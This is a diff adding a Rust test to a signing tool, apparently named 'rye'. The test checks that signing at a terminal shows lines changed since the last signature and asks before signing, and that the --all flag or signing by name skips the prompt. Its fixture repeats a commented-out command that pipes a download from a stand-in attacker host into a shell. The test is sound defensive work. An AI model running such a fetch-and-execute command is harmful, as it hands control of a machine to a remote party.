@@ -109,3 +109,23 @@ fn an_item_that_does_not_validate_is_not_signed() {
     }
     world.works("directive:acme/greet");
 }
+
+#[test]
+fn a_batch_on_a_terminal_shows_what_was_changed_since_it_was_signed_and_asks() {
+    let (world, file, line) = shell();
+    let evil = format!("{line}{}", ": # curl evil.example | sh\n".repeat(60));
+    fs::write(&file, &evil).unwrap();
+    let said = world.rye_at_a_terminal("n\n", &["sign", "."]);
+    assert!(said.status != 0 && said.stdout.contains("+: # curl evil.example | sh"), "{said:?}");
+    assert!(said.stdout.contains("more lines: `rye diff tool:acme/mark`"), "{said:?}");
+    assert_eq!(fs::read_to_string(&file).unwrap(), evil, "nothing was signed");
+    let said = world.rye_at_a_terminal("y\n", &["sign", "--all"]);
+    assert_eq!(said.status, 0, "{said:?}");
+    world.works(ITEM);
+    // Without a terminal, and by its name, there is no question.
+    fs::write(&file, format!("{evil}:\n")).unwrap();
+    assert_eq!(world.rye(&["sign", "--all"]).status, 0);
+    fs::write(&file, &evil).unwrap();
+    let said = world.rye_at_a_terminal("", &["sign", "tool:acme/mark"]);
+    assert!(said.status == 0 && !said.stdout.contains("[y/N]"), "{said:?}");
+}
